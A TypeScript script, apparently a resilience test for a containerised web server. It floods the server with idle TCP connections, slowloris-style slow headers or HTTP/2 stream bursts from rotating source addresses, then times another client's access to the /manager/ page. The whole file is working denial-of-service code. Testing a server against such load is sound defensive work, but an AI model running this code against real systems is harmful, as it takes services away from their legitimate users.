import { once } from "node:events";
import { connect as http2Connect } from "node:http2";
import { request } from "node:https";
import { connect, type Socket } from "node:net";
import { connect as tlsConnect } from "node:tls";

/** What a process in the network of a container does to its web server. */
export interface WebAttack {
	kind: "silent" | "slow headers" | "HTTP/2";
	/** Of the machine. */
	host: string;
	/** The addresses of the attackers, in turn. */
	from: string[];
	connections: number;
	/** The address of somebody else. */
	other: string;
}

export interface WebAttackReport {
	/** How long the manager's page took for somebody else, in milliseconds. */
	pageMs: number;
	/** The HTTP status of the page, or 0 without an answer within 30 s. */
	status: number;
	/** Connections of the attackers that were open then. */
	open: number;
	/** Requests over HTTP/2 that were answered. */
	answers: number;
}

const [attack] = process.argv.slice(2).map((text) => JSON.parse(text)) as [
	WebAttack,
];
const { kind, host, from, connections, other } = attack;
const insecure = { rejectUnauthorized: false };
const streams = 100;
let answers = 0;
const sockets = Array.from({ length: connections }, (_, index) => {
	const localAddress = from[index % from.length];
	const socket = connect({ host, port: 443, localAddress });
	socket.on("error", () => {});
	return socket;
});
await inTurn(sockets, prepare);
const startMs = performance.now();
const status = await page();
const report: WebAttackReport = {
	pageMs: Math.round(performance.now() - startMs),
	status,
	open: sockets.filter(({ destroyed }) => !destroyed).length,
	answers,
};
process.stdout.write(JSON.stringify(report));
process.exit();

/** Brings a connection as far as the attack needs it, unless it is closed. */
async function prepare(socket: Socket): Promise<void> {
	if (socket.connecting) await ready(socket, "connect");
	if (kind === "silent" || socket.destroyed) return;
	const tls = tlsConnect({ socket, ...insecure });
	tls.on("error", () => {});
	await ready(tls, "secureConnect");
	if (tls.destroyed) return;
	if (kind === "slow headers") {
		tls.write("GET /manager/ HTTP/1.1\r\nHost: test\r\nX-Slow: ");
		setInterval(() => tls.write("x"), 500);
		return;
	}
	const session = http2Connect("https://test", { createConnection: () => tls });
	session.on("error", () => {});
	const closed = new Promise((resolve) => session.once("close", resolve));
	const all = Array.from({ length: streams }, async () => {
		const stream = session.request({ ":path": "/manager/" });
		stream.on("error", () => {});
		stream.once("response", () => answers++);
		await new Promise((resolve) => stream.once("close", resolve));
	});
	await Promise.race([closed, Promise.all(all)]);
}

async function ready(socket: Socket, event: string): Promise<void> {
	const abort = new AbortController();
	const { signal } = abort;
	await Promise.race([
		once(socket, event, { signal }),
		new Promise((resolve) => socket.once("close", resolve)),
	]).catch(() => {});
	abort.abort();
}

async function inTurn<One>(all: One[], work: (one: One) => Promise<void>) {
	const left = all.values();
	const worker = async () => {
		for (const one of left) await work(one);
	};
	await Promise.all(Array.from({ length: 32 }, worker));
}

async function page(): Promise<number> {
	const asked = request({
		...{ host, port: 444, path: "/manager/", localAddress: other },
		...insecure,
		timeout: 30_000,
	});
	asked.once("timeout", () => asked.destroy());
	asked.end();
	try {
		const [response] = await once(asked, "response");
		response.resume();
		return response.statusCode;
	} catch {
		return 0;
	}
}
